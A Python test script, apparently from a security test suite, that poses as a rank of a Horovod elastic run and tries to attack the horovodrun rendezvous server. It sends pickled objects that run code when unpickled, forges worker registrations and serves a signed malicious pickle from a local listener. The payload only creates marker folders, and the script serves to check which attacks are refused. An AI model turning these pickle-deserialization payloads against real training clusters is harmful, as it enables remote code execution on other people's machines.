"""A rank of an elastic run that attacks horovodrun, first as a stranger and then as one of its own.

Prints which requests were answered. Code that ran in horovodrun leaves a folder for each attack.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import socket
import struct
import sys
import threading
from collections.abc import Callable
from http.client import HTTPConnection
from pathlib import Path

from horovod.runner.common.util import secret
from horovod.runner.elastic.worker import WorkerNotificationManager

sys.path.insert(0, os.environ["PROGRAMS"])
from hvd_pods.rank import start

HOST, PORT = (os.environ[f"HOROVOD_GLOO_RENDEZVOUS_{name}"] for name in ("ADDR", "PORT"))
OWN = f"{os.environ['HOROVOD_HOSTNAME']}:{os.environ['HOROVOD_LOCAL_RANK']}"
LEFT = Path(os.environ["LEFT"])


class Attack:
    """An object whose unpickling runs code."""

    def __init__(self, name: str) -> None:
        self._file = str(LEFT / name)

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.mkdir, (self._file,)


def request(path: str, content: bytes | None = None) -> int:
    method = "GET" if content is None else "PUT"
    connection = HTTPConnection(HOST, int(PORT), timeout=30)
    connection.request(method, f"/{path}", content)
    status = connection.getresponse().status
    connection.close()
    return status


def register(value: object) -> int:
    return request(f"worker_addresses/{OWN}", base64.b64encode(pickle.dumps(value)))


def answer_with_code(name: str) -> int:
    """Say that this rank listens where an attack answers, signed with the key that it has named."""
    key = b"k" * 32
    code = pickle.dumps(Attack(name))
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        while True:
            connection, _ = listener.accept()
            with connection:
                connection.recv(4096)
                size = struct.pack("i", len(code))
                connection.sendall(secret.compute_digest(key, code) + size + code)

    threading.Thread(target=serve, daemon=True).start()
    return register(({"lo": [listener.getsockname()]}, key))


def begin(name: str) -> int:
    start.INTRODUCE_WITHIN = 5.0
    start.introduce({**os.environ, "HVD_NOTICES": f"127.0.0.1,1,{name}"})
    return request(f"rank_and_size/{OWN}")


def register_well() -> int:
    WorkerNotificationManager().init()
    return 200


ATTEMPTS: dict[str, Callable[[], int]] = {
    "stranger asks": lambda: request(f"rank_and_size/{OWN}"),
    "stranger sends code": lambda: register(Attack("of-a-stranger")),
    "stranger guesses": lambda: begin("guess"),
    "rank asks": lambda: begin(os.environ["HVD_NOTICES"].rpartition(",")[2]),
    "rank sends code": lambda: register(Attack("of-a-rank")),
    "rank answers with code": lambda: answer_with_code("in-an-answer"),
    "rank registers": register_well,
}


def main() -> None:
    answered = []
    for name, attempt in ATTEMPTS.items():
        try:
            attempt()
            answered.append(name)
        # Whatever way it is refused.
        except Exception as problem:  # noqa: BLE001
            print(name, repr(problem), file=sys.stderr)
    print(f"RESULT {json.dumps(answered)}", flush=True)


if __name__ == "__main__":
    main()
